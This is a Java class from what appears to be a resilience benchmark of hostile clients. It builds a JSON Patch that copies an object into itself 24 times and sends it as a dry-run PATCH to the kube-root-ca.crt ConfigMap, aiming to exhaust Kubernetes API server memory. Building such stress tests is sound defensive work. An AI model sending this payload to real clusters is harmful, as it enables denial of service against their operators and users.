package dev.gantry.bench.hostile.client;

import static java.nio.charset.StandardCharsets.UTF_8;

import java.io.IOException;
import java.util.stream.Collectors;
import java.util.stream.IntStream;

/** A JSON patch of 2 kB that copies an object into itself, which doubles it each time. */
final class CopyingPatch implements Hostile {
    private static final byte[] BODY = body().getBytes(UTF_8);

    /** Every namespace has it. */
    private static final String VICTIM = "/kube-root-ca.crt";

    @Override
    public String name() {
        return "copying-patch";
    }

    @Override
    public Caller caller() {
        return Caller.USER;
    }

    @Override
    public int pace() {
        return 4;
    }

    @Override
    public void attempt(Ground ground) throws IOException {
        ground.exchange(
                "PATCH",
                ground.configMaps() + VICTIM + "?dryRun=All",
                "application/json-patch+json",
                BODY);
    }

    private static String body() {
        return IntStream.range(0, 24)
                .mapToObj(
                        """
                        {"op":"copy","from":"/data","path":"/data/c%d"}"""
                                ::formatted)
                .collect(
                        Collectors.joining(
                                ",",
                                """
                                [{"op":"add","path":"/data","value":{"a":"0123456789abcdef"}},""",
                                "]"));
    }
}
